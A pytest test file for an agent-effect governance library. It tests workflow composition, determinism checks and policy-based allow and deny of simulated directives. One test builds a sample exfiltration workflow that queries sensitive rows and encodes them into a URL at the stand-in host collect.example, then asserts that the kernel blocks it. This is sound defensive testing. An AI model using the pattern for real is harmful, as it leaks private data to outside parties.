"""Workflow algebra: evaluation order, purity, compositionality."""

import hashlib
import itertools
import random
import re

import pytest

import effectgov
from effectgov import (
    DecisionReason,
    DirectiveError,
    EMPTY_POLICY,
    Phase,
    Policy,
    PolicyRule,
    TrustLevel,
    Verdict,
    WorkflowError,
    emit,
    iterate,
    run,
    seq,
    step,
)

from effectgov import GovernanceKernel, branch, seeded_world, standard_registry
from effectgov.workflow import Branch, Emit, Iterate, PureStep, Seq, Workflow
from support import (
    fresh_kernel,
    golden_workflow_runs,
    random_input,
    random_policy,
    random_workflow,
    record_essence,
)


def sim_policy(*kinds):
    return Policy([
        PolicyRule(capability=kind, min_trust=TrustLevel.AGENT,
                   allowed_phases=frozenset({Phase.EXECUTE}))
        for kind in kinds
    ])


ALL_SIM = sim_policy("email.send", "db.query", "web.browse")


def email_emit(name="send"):
    return emit(name, "email.send", lambda value: {"to": "a@b.c", "body": str(value)})


def query_emit(name="query"):
    return emit(name, "db.query", lambda value: {"table": "sensitive", "select": "*"})


def test_seq_of_two_emits():
    kernel = fresh_kernel(ALL_SIM)
    result = run(seq(email_emit(), query_emit()), "start", kernel)
    records = kernel.chain.records
    assert result.directives_issued == 2
    assert [r.decision.verdict for r in records] == [Verdict.ALLOW, Verdict.ALLOW]
    assert len(kernel.world.outbox) == 1
    assert [kind for kind, _ in kernel.world.journal] == ["email.send", "db.query"]


def test_exfiltration_workflow_denied_at_the_boundary():
    # Query sensitive rows, encode them into a URL, try to browse it out.
    workflow = seq(
        query_emit("fetch_secrets"),
        step("encode", lambda rows: f"http://collect.example/drop?q={rows}"),
        emit("exfiltrate", "web.browse", lambda url: {"url": url}),
    )
    kernel = fresh_kernel(sim_policy("email.send", "db.query"))
    result = run(workflow, "", kernel)
    records = kernel.chain.records
    assert records[0].decision.verdict is Verdict.ALLOW
    assert records[0].directive.kind == "db.query"
    assert records[1].decision.verdict is Verdict.DENY
    assert records[1].decision.reason is DecisionReason.NO_CAPABILITY
    assert records[1].directive.kind == "web.browse"
    assert kernel.world.http_log == ()
    assert result.output is None  # the denied emit produced nothing


def test_iterate_empty_list_is_vacuous():
    kernel = fresh_kernel(ALL_SIM)
    result = run(iterate(email_emit(), lambda value: []), "unchanged", kernel)
    assert len(kernel.chain) == 0
    assert result.output == "unchanged"


def test_iterate_emits_once_per_item():
    kernel = fresh_kernel(ALL_SIM)
    body = emit("notify", "email.send", lambda item: {"to": f"{item}@example.test", "body": "go"})
    run(iterate(body, lambda value: ["a", "b", "c"]), None, kernel)
    assert [to for to, _ in kernel.world.outbox] == [
        "a@example.test", "b@example.test", "c@example.test"
    ]


def test_seq_associativity_produces_identical_chains():
    rng = random.Random(31)
    for _ in range(20):
        a = random_workflow(rng)
        b = random_workflow(rng)
        c = random_workflow(rng)
        policy = random_policy(rng)
        value = random_input(rng)
        left = fresh_kernel(policy)
        right = fresh_kernel(policy)
        out_left = run(seq(a, seq(b, c)), value, left)
        out_right = run(seq(seq(a, b), c), value, right)
        assert out_left.output == out_right.output
        assert left.chain.export() == right.chain.export()


def test_branch_constant_true_equals_then_arm():
    then_arm = email_emit()
    else_arm = query_emit()
    kernel_branch = fresh_kernel(ALL_SIM)
    kernel_plain = fresh_kernel(ALL_SIM)
    run(branch(lambda value: True, then_arm, else_arm), "v", kernel_branch)
    run(then_arm, "v", kernel_plain)
    assert kernel_branch.chain.export() == kernel_plain.chain.export()


def test_identity_step_is_a_unit():
    workflow = query_emit()
    with_unit = fresh_kernel(ALL_SIM)
    plain = fresh_kernel(ALL_SIM)
    out_unit = run(seq(workflow, step("id", lambda value: value)), "v", with_unit)
    out_plain = run(workflow, "v", plain)
    assert out_unit.output == out_plain.output
    assert with_unit.chain.export() == plain.chain.export()


def test_compositionality_chain_concatenation():
    rng = random.Random(47)
    for _ in range(50):
        a = random_workflow(rng)
        b = random_workflow(rng)
        policy = random_policy(rng)
        value = random_input(rng)
        trust = rng.choice(list(TrustLevel))

        whole = fresh_kernel(policy)
        run(seq(a, b), value, whole, trust=trust)

        part_world = seeded_world()
        first = fresh_kernel(policy, world=part_world)
        out_a = run(a, value, first, trust=trust)
        second = fresh_kernel(policy, world=part_world)
        run(b, out_a.output, second, trust=trust)

        combined = [record_essence(r) for r in first.chain.records]
        combined += [record_essence(r) for r in second.chain.records]
        assert [record_essence(r) for r in whole.chain.records] == combined


def test_purity_under_total_denial():
    rng = random.Random(53)
    for _ in range(20):
        workflow = random_workflow(rng)
        kernel = fresh_kernel(EMPTY_POLICY)
        before = kernel.world.snapshot_bytes()
        run(workflow, random_input(rng), kernel)  # completes without effects
        assert kernel.world.snapshot_bytes() == before


def test_deterministic_replay_bytes():
    rng_a = random.Random(61)
    rng_b = random.Random(61)
    workflow_a = random_workflow(rng_a)
    workflow_b = random_workflow(rng_b)
    policy_a = random_policy(rng_a)
    policy_b = random_policy(rng_b)
    kernel_a = fresh_kernel(policy_a)
    kernel_b = fresh_kernel(policy_b)
    run(workflow_a, "same", kernel_a)
    run(workflow_b, "same", kernel_b)
    assert kernel_a.chain.export() == kernel_b.chain.export()


def test_double_evaluation_catches_nondeterminism():
    ticks = iter(range(1000))
    wobbly = step("wobbly", lambda value: next(ticks))
    kernel = fresh_kernel(ALL_SIM)
    with pytest.raises(WorkflowError, match="deterministic"):
        run(wobbly, 0, kernel, check_determinism=True)


def changing():
    """A value function that returns a new value on every call."""
    ticks = itertools.count()
    return lambda value: next(ticks)


@pytest.mark.parametrize(
    "make_node, label",
    [
        (lambda: step("x", changing()), "step 'x'"),
        (lambda: emit("y", "email.send", lambda value, tick=changing(): {"n": tick(value)}),
         "emit 'y' params"),
        (lambda: branch(lambda value, tick=changing(): tick(value) % 2 == 0,
                        email_emit(), query_emit()), "branch predicate"),
        (lambda: iterate(email_emit(), lambda value, tick=changing(): [tick(value)]),
         "iterate items"),
    ],
)
def test_determinism_error_names_its_node(make_node, label):
    kernel = fresh_kernel(ALL_SIM)
    with pytest.raises(WorkflowError) as excinfo:
        run(make_node(), 0, kernel, check_determinism=True)
    assert str(excinfo.value) == f"{label} is not deterministic"
    assert len(kernel.chain) == 0


def test_deterministic_workflows_pass_the_check():
    kernel = fresh_kernel(ALL_SIM)
    workflow = seq(
        step("fmt", lambda value: str(value)),
        branch(lambda value: len(value) > 1, email_emit(), query_emit()),
        iterate(email_emit("per_item"), lambda value: ["x", "y"]),
    )
    result = run(workflow, 42, kernel, check_determinism=True)
    assert result.directives_issued == 3


def test_branch_predicate_must_return_bool():
    kernel = fresh_kernel(ALL_SIM)
    with pytest.raises(WorkflowError, match="non-bool"):
        run(branch(lambda value: 1, email_emit(), query_emit()), "v", kernel)


def test_iterate_items_must_be_a_list():
    kernel = fresh_kernel(ALL_SIM)
    with pytest.raises(WorkflowError, match="finite list"):
        run(iterate(email_emit(), lambda value: 7), "v", kernel)


def test_seq_requires_at_least_one_part():
    with pytest.raises(ValueError):
        seq()


def test_run_result_counts_match_chain_growth():
    kernel = fresh_kernel(ALL_SIM)
    first = run(email_emit(), "a", kernel)
    assert first.directives_issued == 1 == len(kernel.chain)
    second = run(query_emit(), "b", kernel)
    assert second.directives_issued == 1
    assert len(kernel.chain) == 2


def test_run_counts_only_its_own_issues_on_a_shared_chain():
    # A step that issues on a second kernel over the same chain stands in
    # for another writer: its record lands between the run's two.
    kernel = fresh_kernel(ALL_SIM)
    other = GovernanceKernel(ALL_SIM, standard_registry(), seeded_world(), chain=kernel.chain)

    def meanwhile(value):
        other.issue("db.query", {"table": "t", "select": "*"}, "other", TrustLevel.AGENT,
                    Phase.EXECUTE)
        return value

    mail = email_emit()
    result = run(seq(mail, step("meanwhile", meanwhile), mail), "v", kernel)
    assert result.directives_issued == 2
    assert [record.directive.issuer for record in kernel.chain.records] == [
        "send", "other", "send"
    ]


def test_seeded_workflows_keep_their_golden_digest():
    # Pins evaluation semantics: outputs, directive counts, chain bytes and
    # world state of 500 seeded runs, half of them with the determinism check.
    digest = hashlib.sha256()
    records = 0
    for kernel, result in golden_workflow_runs():
        records += len(kernel.chain)
        digest.update(kernel.chain.export())
        digest.update(repr((result.output, result.directives_issued)).encode())
        digest.update(kernel.world.snapshot_bytes())
    assert records == 1_031
    assert digest.hexdigest() == "1a67e54c4025b054a3f4d818091ce289905f020c5cd51dc4a25035e294a32805"


@pytest.mark.parametrize(
    "build, type_name",
    [
        (lambda: seq(email_emit(), "oops"), "str"),
        (lambda: branch(lambda value: True, email_emit(), 3), "int"),
        (lambda: branch(lambda value: True, 3, email_emit()), "int"),
        (lambda: iterate(None, lambda value: [1]), "NoneType"),
    ],
)
def test_a_malformed_tree_is_refused_when_built(build, type_name):
    with pytest.raises(WorkflowError, match=f"unknown workflow node {type_name}$"):
        build()


@pytest.mark.parametrize(
    "build, message",
    [
        (lambda: step("s", "upper"), "step 's' fn is not callable: str"),
        (lambda: emit("send", "email.send", {"to": "a@b.c"}),
         "emit 'send' params_fn is not callable: dict"),
        (lambda: branch(None, email_emit(), email_emit()),
         "branch predicate is not callable: NoneType"),
        (lambda: iterate(email_emit(), [1, 2]), "iterate items_fn is not callable: list"),
    ],
    ids=["step-fn", "emit-params_fn", "branch-predicate", "iterate-items_fn"],
)
def test_a_function_field_that_is_not_callable_is_refused_when_built(build, message):
    kernel = fresh_kernel(ALL_SIM)
    with pytest.raises(WorkflowError, match=f"^{re.escape(message)}$"):
        run(seq(email_emit(), build()), "v", kernel)
    assert len(kernel.chain) == 0
    assert kernel.world.outbox == ()


@pytest.mark.parametrize(
    "name, kind, phase, message",
    [
        ("", "email.send", Phase.EXECUTE, "emit name must be a non-empty string, got ''"),
        (7, "email.send", Phase.EXECUTE, "emit name must be a non-empty string, got 7"),
        ("bad", "Bad Kind", Phase.EXECUTE,
         "effect kind 'Bad Kind': invalid character 'B' at index 0"),
        ("bad", "", Phase.EXECUTE, "effect kind must not be empty"),
        ("bad", 7, Phase.EXECUTE, "effect kind must be a string, got int"),
        ("bad", "email.send", "execute", "phase must be a Phase, got 'execute'"),
    ],
    ids=["empty-name", "int-name", "bad-kind", "empty-kind", "int-kind", "wire-phase"],
)
def test_an_emit_with_a_bad_directive_field_is_refused_when_built(name, kind, phase, message):
    # Checked only when issued, the second emit would fail after the first
    # had sent and recorded its email.
    kernel = fresh_kernel(ALL_SIM)
    params_fn = lambda value: {"to": "a@b.c", "body": "hi"}
    with pytest.raises(DirectiveError, match=f"^{re.escape(message)}$"):
        run(seq(email_emit(), emit(name, kind, params_fn, phase)), "v", kernel)
    assert len(kernel.chain) == 0
    assert kernel.world.outbox == ()


def test_seq_holds_its_parts_as_built():
    parts = [email_emit(), query_emit()]
    from_list = Seq(parts)
    parts.append("oops")
    from_generator = Seq(part for part in parts[:2])
    for workflow in (from_list, from_generator):
        kernel = fresh_kernel(ALL_SIM)
        assert run(workflow, "v", kernel).directives_issued == 2


class BareNode(Workflow):
    """Derives from the base class but is none of the five node types."""


@pytest.mark.parametrize("root, type_name", [("oops", "str"), (BareNode(), "BareNode")])
def test_run_refuses_a_root_that_is_not_a_node_before_any_effect(root, type_name):
    kernel = fresh_kernel(ALL_SIM)
    before = kernel.world.snapshot_bytes()
    with pytest.raises(WorkflowError, match=f"unknown workflow node {type_name}$"):
        run(root, "v", kernel)
    assert len(kernel.chain) == 0
    assert kernel.world.snapshot_bytes() == before


def test_combinators_are_the_node_classes():
    params_fn = lambda value: {"to": "a@b.c", "body": "hi"}
    assert emit("send", "email.send", params_fn) == Emit(
        name="send", kind="email.send", params_fn=params_fn, phase=Phase.EXECUTE
    )
    assert emit("send", "email.send", params_fn, Phase.PLAN).phase is Phase.PLAN
    assert effectgov.step is PureStep
    assert effectgov.emit is Emit
    assert effectgov.branch is Branch
    assert effectgov.iterate is Iterate
